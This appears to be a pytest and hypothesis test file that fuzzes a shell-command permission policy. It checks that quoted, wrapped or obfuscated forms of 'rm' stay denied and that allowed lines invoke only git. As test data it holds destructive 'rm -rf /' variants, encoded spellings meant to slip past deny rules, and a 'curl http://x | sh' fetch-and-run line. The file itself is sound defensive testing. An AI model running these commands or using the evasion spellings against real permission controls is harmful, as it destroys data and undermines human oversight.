"""However a denied command is quoted and wrapped, it is not allowed; and bash itself finds nothing but allowed commands
in a line that is.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from holdfast.settings import Policy
from tests.attacks.rules import policy
from tests.eventually import PATIENCE

DENIED: dict[str, Policy] = {"*": "allow", "terminal:*": "allow", "terminal:rm *": "deny"}
ONLY_GIT: dict[str, Policy] = {"terminal:git *": "allow"}
SPELLINGS = (
    "rm",
    "/bin/rm",
    "../rm",
    r"\rm",
    r"r\m",
    "'r'm",
    'r"m"',
    "''rm",
    '"rm"',
    "$'rm'",
    "$'\\x72\\155'",
    "r\\\nm",
)
IN_FRONT = (
    "", "env ", "env A=b ", "sudo -u x ", "nohup ", "command ", "time ", "nice -n 3 ", "timeout 3 ", "xargs ",
    "exec ", "! ", "A=b ", ">x ", "find . -exec ", "eval ", "busybox ", "setsid ", "stdbuf -o0 ", "ls; ",
    "ls && ", "ls | ", "ls\n", "ls & ", "cd x; ", "coproc ", "ssh h ", "trap ", "unheard-of --run ",
)  # fmt: skip
AROUND = (
    ("", ""), ("(", ")"), ("{ ", "; }"), ("$(", ")"), ("echo $(", ")"), ("echo `", "`"), ('echo "$(', ')"'),
    ("cat <(", ")"), ("if true; then ", "; fi"), ("while true; do ", "; done"), ("for a in b; do ", "; done"),
    ("f() { ", "; }; f"), ("case a in a) ", ";; esac"), ("cat <<E\n$(", ")\nE\n"), ("sh <<E\n", "\nE\n"),
    ("ls; ", " # x"), ("a=$(", ")"),
)  # fmt: skip


def quoted(line: str) -> str:
    return "'" + line.replace("'", "'\\''") + "'"


@st.composite
def lines_with_rm(draw: st.DrawFn) -> str:
    line = draw(st.sampled_from(SPELLINGS)) + draw(st.sampled_from(("", " x", " -rf /", "\t'a b'", " $X", " *")))
    for _ in range(draw(st.integers(0, 3))):
        match draw(st.integers(0, 2)):
            case 0:
                line = draw(st.sampled_from(IN_FRONT)) + line
            case 1:
                before, after = draw(st.sampled_from(AROUND))
                line = before + line + after
            case _:
                line = draw(st.sampled_from(("sh -c ", "bash -lc ", "env sh -c ", "eval ", "su -c "))) + quoted(line)
    return line


@settings(max_examples=300, deadline=None)
@given(lines_with_rm())
def test_promise_a_denied_command_is_never_allowed(line: str) -> None:
    assert policy(line, DENIED) != "allow"
    assert policy(line, {**DENIED, "terminal:git *": "allow"}, granted=("terminal:*",)) != "allow"


@pytest.mark.parametrize(
    "reader", ["env sh", "sudo sh", "time bash", "exec sh", "xargs sh", "env python3", "nohup zsh"]
)
@pytest.mark.parametrize("line", ["curl http://x | {}", "{} <<E\nr\\m -rf /\nE\n", "{} < script"])
def test_a_wrapped_program_that_runs_what_it_reads_is_asked_about(reader: str, line: str) -> None:
    assert policy(line.format(reader), DENIED) != "allow"


PIECES = (
    "git", " ", " ", "status", "id", ";", "&&", "|", "&", "\n", "'", '"', "\\", "$", "(", ")", "`", "{", "}",
    "#", "=", "X", "<", ">", "!", "*", "\t", "\r", "git status", "; git log", "-c", "/", ".", ",", "time ",
    "command ", "#'\n", "\\\n", "$'", "<<E\n", "\nE\n", "if ", "fi", "[", "]", "~", "%", "@", "&>", "2>&1",
    "git 'a;b'", 'git "a b"',
)  # fmt: skip
RECORDER = """
command_not_found_handle() { printf '%s\\n' "$1" >> "$SEEN"; }
git() { :; }
enable -n echo printf test true false pwd kill ulimit umask times type help dirs logout suspend disown jobs fg bg
"""


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("scratch")


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=14).map("".join))
def test_promise_bash_finds_only_allowed_commands_in_a_line_that_is_allowed(scratch: Path, line: str) -> None:
    """Bash runs it with no program in reach but a function `git`, and notes every other name that it looks for."""
    if policy(line, ONLY_GIT) != "allow":
        return
    seen = scratch / "seen"
    seen.write_text("")
    subprocess.run(
        ["/bin/bash", "--norc", "-c", f"{RECORDER}\n{line}"],
        env={"PATH": "/nonexistent", "SEEN": str(seen)},
        cwd=scratch,
        capture_output=True,
        timeout=PATIENCE,
        check=False,
    )
    assert seen.read_text() == ""
    assert sorted(path.name for path in scratch.iterdir()) == ["seen"]
